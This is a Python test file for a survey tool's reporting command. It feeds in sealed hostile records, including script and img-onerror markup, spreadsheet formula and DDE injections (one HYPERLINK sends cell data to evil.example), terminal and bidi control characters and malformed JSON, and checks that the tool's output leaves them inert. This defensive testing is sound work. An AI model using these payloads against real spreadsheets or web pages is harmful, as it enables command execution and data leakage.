"""Hostile content is inert: records sealed straight to the analyst's key (as a hostile
respondent with the public key can) carrying markup, formulas, over-long strings, invalid UTF-8,
non-JSON and answers that do not fit go through `report` without a crash, are counted and listed,
never enter a figure, and come out as text."""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from survey.core import envelope
from survey.core import sealed_document as plaintext
from survey.core.export_format import Record, record_line
from survey.core.questionnaire import load
from survey.core.spreadsheet_cells import FORMULA_START
from tests.conftest import PASSPHRASE, AnalystKey, run_analyst
from tests.test_csv_separators import fields, runnable

UID = "hostile-survey-uid"
SCRIPT = "<script>alert('pwned')</script>"
IMG = '<img src=x onerror="alert(1)">'
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ATSUM = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CHANNELS = [SCRIPT, HYPERLINK, ATSUM]
#: Formulas after a ';' or a TAB or a line break (live when a spreadsheet splits there), bidi and
#: C0 controls, terminal escape sequences: in free text and in channel labels.
SPLIT_TEXTS = ["x;=cmd|' /C calc'!A0;", "a\t=1+1", "ok\n=2+2", "fine, -1+1", "\u202eexe.txt",
               "\x1b[31mred\x1b[0m\x07", "\x00nul\x7f\x9b2J", "\uff1dSUM(1)"]
SPLIT_CHANNELS = ["Outreach;=cmd|' /C calc'!A0;", "Clinic\t=1+1", "\u202eNGO", "\x1b]0;pwned\x07Drop-in"]
BIDI_TITLE = "\u202egpj.exe \u2066x\u2069 \u061c"  # in the survey's title, which the report shows
LABEL_TOML = "No \\u202e\\u001b[2J"  # an option label, as TOML escapes
LABEL_SHOWN = "No \\u202e\\u001b[2J"  # as it must be shown (the same characters, made visible)
ESCAPE_CODE = "\x1b[2J\x1b]0;owned\x07code"  # an unknown question code that would clear the terminal
#: What must never reach a terminal, a CSV cell or the HTML as it is (besides line breaks).
CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
#: The report's folder, and the run with the counts of valid and of all records.
Hostile = tuple[Path, tuple[subprocess.CompletedProcess[str], int, int]]


def write_export(path: Path, lines: list[bytes], key_id: str, definition: str) -> None:
    """An export with a manifest that matches its records exactly (count and digest)."""
    head = {
        "format": "run-survey-export", "format_version": 1,
        "survey": {"uid": UID, "title": f"Wave {SCRIPT} {BIDI_TITLE}"},
        "questionnaire": {"id": "demo", "version": 1, "definition": definition},
        "key_id": key_id, "records": len(lines),
        "records_sha256": hashlib.sha256(b"".join(lines)).hexdigest(),
    }
    path.write_bytes(json.dumps(head).encode() + b"\n" + b"".join(lines))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, analyst_key: AnalystKey) -> Hostile:
    base = tmp_path_factory.mktemp("hostile")
    private = serialization.load_pem_private_key(analyst_key.private.read_bytes(), PASSPHRASE.encode())
    assert isinstance(private, ec.EllipticCurvePrivateKey)
    public = private.public_key()
    q = load(Path("survey/core/questionnaires/demo.toml").resolve())
    lines: list[bytes] = []

    def sealed(data: bytes, channel: str = "Street outreach") -> None:
        lines.append(record_line(Record(channel, envelope.seal(data, public, UID))))

    def doc(answers: dict[str, object], lang: str = "en", qid: str = "demo", version: int = 1) -> bytes:
        return json.dumps({"f": 1, "questionnaire": qid, "version": version, "lang": lang,
                           "answers": answers}).encode()

    valid = 0
    for i in range(36):  # valid responses whose free text and channel are hostile
        text = [SCRIPT, IMG, HYPERLINK, ATSUM, "+1+1", "-2", "\t=1", "x" * 500][i % 8]
        sealed(plaintext.encode(q, "en", {"needed_treatment": "no", "treated_unfairly": 1 + i % 5,
                                           "comment": text}), HOSTILE_CHANNELS[i % 3])
        valid += 1
    for i in range(6 * len(SPLIT_TEXTS)):  # 8 or 16 times each channel, so none is hidden below k=3
        sealed(plaintext.encode(q, "en", {"needed_treatment": "no", "comment": SPLIT_TEXTS[i % len(SPLIT_TEXTS)]}),
               SPLIT_CHANNELS[(0, 1, 2, 2, 3, 3)[i % 6]])
        valid += 1
    sealed(doc({"needed_treatment": "no", ESCAPE_CODE: 1}))  # the first record whose answers do not fit
    sealed(doc({"needed_treatment": "no", "comment": "y" * 5000}))  # over-long text
    sealed(doc({"needed_treatment": "no", "zz": "z" * 60_000}))  # over-long, unknown code
    sealed(b"\xff\xfe\xfd invalid utf-8 \xc3\x28")
    sealed(SCRIPT.encode())  # not JSON at all
    sealed(b"[" * 30_000 + b"]" * 30_000)  # nesting deep enough to overflow a recursive parser
    sealed(b'{"f": 1}')
    sealed(doc({"needed_treatment": "no"}, lang=SCRIPT))
    sealed(doc({"needed_treatment": "no"}, qid=SCRIPT[:40], version=7))  # unknown questionnaire
    sealed(doc({"needed_treatment": "no"}, version=2))  # unknown version
    sealed(doc({"needed_treatment": "no", "age": 200}))  # out of range
    sealed(doc({"needed_treatment": "no", "treated_unfairly": 9}))  # not a scale point
    sealed(doc({"needed_treatment": IMG}))  # unknown option code
    sealed(doc({"needed_treatment": "no", HYPERLINK: 1}))  # unknown question code
    sealed(doc({"needed_treatment": "no", "barriers": ["cost"]}))  # condition false: answer dropped, response valid
    valid += 1
    # Lone surrogate escapes: Python's json would hand back a string that cannot be written as
    # UTF-8, and the run would stop at the first CSV row. Refused as not strict JSON.
    sealed(doc({"needed_treatment": "no", "comment": "a\ud800b"}))
    sealed(b'{"f": 1, "questionnaire": "demo", "version": 1, "lang": "en", "answers": {"age": NaN}}')
    lines.append(b"not json at all " + SCRIPT.encode() + b"\n")
    lines.append(b'{"channel": "' + IMG.replace('"', "'").encode() + b'", "envelope": "'
                 + base64.b64encode(b"\x01" * 1200) + b'"}\n')
    # A channel label with a lone surrogate escape, around an envelope that would open.
    good = envelope.seal(plaintext.encode(q, "en", {"needed_treatment": "no"}), public, UID)
    lines.append(b'{"channel": "x\\udc00", "envelope": "' + base64.b64encode(good) + b'"}\n')
    export = base / "hostile.jsonl"
    # The export's definition (which the analyst reads) labels an option with controls.
    plain_no = '{ code = "no", value = 2, label = "No" }'
    assert plain_no in q.source
    write_export(export, lines, analyst_key.key_id, q.source.replace(plain_no, plain_no.replace('"No"', f'"{LABEL_TOML}"')))
    out = base / "report"
    result = run_analyst("report", export, "--key", analyst_key.private, "--out", out, "--k", "3", "--workers", "2")
    decrypted = run_analyst("decrypt", export, "--key", analyst_key.private, "--out", out / "decrypted.csv")
    (out / "decrypt.log").write_text(decrypted.stdout + decrypted.stderr, encoding="utf-8")
    return out, (result, valid, len(lines))


def test_hostile_records_go_through_without_a_crash_and_are_counted(hostile: Hostile) -> None:
    out, (result, valid, total) = hostile
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    run = json.loads((out / "run.json").read_text())
    assert run["counts"]["valid"] == valid
    assert run["counts"]["records"] == total
    rejected = run["counts"]["rejected"]
    assert rejected == {
        "answers do not fit the questionnaire": 7,
        "plaintext is not a response document": 7,
        "unknown questionnaire or version": 2,
        "malformed record": 3,
    }
    listed = list(csv.DictReader(open(out / "rejected.csv", encoding="utf-8")))
    assert len(listed) == total - valid


def test_rejected_answers_never_enter_a_figure(hostile: Hostile) -> None:
    out, (_result, valid, _total) = hostile
    rows = list(csv.DictReader(open(out / "aggregates.csv", encoding="utf-8")))
    totals = {r["variable"]: r["value"] for r in rows if r["table"] == "frequency" and r["category"] == "(total)"}
    assert totals["needed_treatment"] == str(valid)
    by_cat = {r["category"]: r["value"] for r in rows
              if r["table"] == "frequency" and r["variable"] == "needed_treatment" and r["statistic"] == "count"}
    assert by_cat["no"] == str(valid) and by_cat["yes"] == "0"
    ages = [r for r in rows if r["table"] == "number" and r["variable"] == "age" and r["statistic"] == "n"]
    assert ages[0]["value"] == "0"  # nobody valid gave an age: the 200 did not get in
    assert len(list(csv.DictReader(open(out / "responses.csv", encoding="utf-8")))) == valid


class Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend(attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_the_report_contains_no_live_markup_from_the_records(hostile: Hostile) -> None:
    out, _ = hostile
    page = Markup()
    raw = (out / "report.html").read_text(encoding="utf-8")
    page.feed(raw)
    # (links, <a> among them, are checked below: only to places inside the page)
    assert not {"script", "img", "iframe", "object", "embed", "link", "form", "base", "meta"} & set(page.tags) - {"meta"}
    assert page.tags.count("meta") == 2  # charset and viewport, ours
    assert not [name for name, _v in page.attrs if name.startswith("on")]
    links = [v for name, v in page.attrs if name in ("href", "xlink:href", "src", "action")]
    assert all(v and v.startswith("#") for v in links), links  # only links inside the page (SVG)
    text = "".join(page.text)
    # The hostile channel labels and titles are there, as text.
    assert SCRIPT in text and HYPERLINK in text
    # Free text answers are not in the report at all: the <img onerror> answer is neither
    # markup nor text (the parsed text has character references decoded), nor escaped source.
    assert "x" * 500 not in text
    assert IMG not in text
    assert "onerror" not in raw.lower()
    assert "<img" not in raw.lower() and "&lt;img" not in raw.lower()


def test_no_csv_cell_starts_with_a_formula_character(hostile: Hostile) -> None:
    out, _ = hostile
    seen = 0
    for name in ("responses.csv", "scores.csv", "aggregates.csv", "rejected.csv", "codebook.csv"):
        with open(out / name, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for value in row:
                    seen += 1
                    assert not value.startswith(FORMULA_START), (name, value[:60])
    assert seen > 500
    comments = [r["comment"] for r in csv.DictReader(open(out / "responses.csv", encoding="utf-8"))]
    assert "'" + HYPERLINK in comments and "'" + ATSUM in comments and SCRIPT in comments


def test_every_csv_is_inert_with_every_separator(hostile: Hostile) -> None:
    """responses, scores, rejected, aggregates, codebook and decrypt's CSV, each read with ',' ';'
    and TAB, by the csv module and split naively: no cell a spreadsheet would run."""
    out, _ = hostile
    names = sorted(p.name for p in out.glob("*.csv"))
    assert {"responses.csv", "scores.csv", "rejected.csv", "aggregates.csv", "codebook.csv", "decrypted.csv"} <= set(names)
    for name in names:
        text = (out / name).read_text(encoding="utf-8")
        assert not CONTROLS.search(text.replace("\r\n", "\n")), (name, CONTROLS.findall(text)[:5])
        live = [(sep, f[:60]) for sep in (",", ";", "\t") for f in fields(text, sep) if runnable(f)]
        assert not live, (name, live[:5])
    responses = (out / "responses.csv").read_text(encoding="utf-8")
    channels = (out / "aggregates.csv").read_text(encoding="utf-8")
    for text in (responses, channels):  # the hostile text is there, made inert and visible
        assert "Outreach;'=cmd|' /C calc'!A0;" in text and "\\u202eNGO" in text and "\\u001b]0;pwned" in text
    assert "x;'=cmd" in responses and "a\\u0009=1+1" in responses and "ok\n'=2+2" in responses
    assert "fine, '-1+1" in responses and "\\u0000nul\\u007f\\u009b2J" in responses and "'\uff1dSUM(1)" in responses


def test_no_control_character_reaches_the_terminal(hostile: Hostile) -> None:
    out, (result, _valid, _total) = hostile
    decrypt_output = (out / "decrypt.log").read_text(encoding="utf-8")
    for output in (result.stdout + result.stderr, decrypt_output):
        assert not CONTROLS.search(output), CONTROLS.findall(output)[:5]
    # decrypt names the unknown code of the first record that did not fit, visibly.
    assert "\\u001b[2J\\u001b]0;owned\\u0007code" in decrypt_output, decrypt_output
    for output in (result.stderr, decrypt_output):  # and both say what is per-person data
        assert "never share" in output
    assert "rejected.csv, responses.csv, scores.csv: per-person data" in result.stderr
    assert "decrypted.csv: per-person data" in decrypt_output


def test_the_report_shows_controls_as_text(hostile: Hostile) -> None:
    out, _ = hostile
    raw = (out / "report.html").read_text(encoding="utf-8")
    assert not CONTROLS.search(raw), CONTROLS.findall(raw)[:5]
    page = Markup()
    page.feed(raw)
    text = "".join(page.text)
    assert "\\u202egpj.exe \\u2066x\\u2069 \\u061c" in text and "\\u001b]0;pwned\\u0007Drop-in" in text
    assert "Outreach;=cmd" in text  # HTML is not a spreadsheet: the label is shown as it was written
    assert LABEL_SHOWN in text  # the option label from the export's definition, in tables and charts
    assert LABEL_SHOWN in (out / "codebook.csv").read_text(encoding="utf-8")


def test_run_json_names_the_per_person_files_and_prints_safely(hostile: Hostile) -> None:
    out, _ = hostile
    raw = (out / "run.json").read_text(encoding="utf-8")
    run = json.loads(raw)
    assert run["per_person"] == ["rejected.csv", "responses.csv", "scores.csv"]
    # The survey's title with its controls is recorded, escaped: the file can be printed safely.
    assert raw.isascii() and run["inputs"][0]["survey_title"] == f"Wave {SCRIPT} {BIDI_TITLE}"
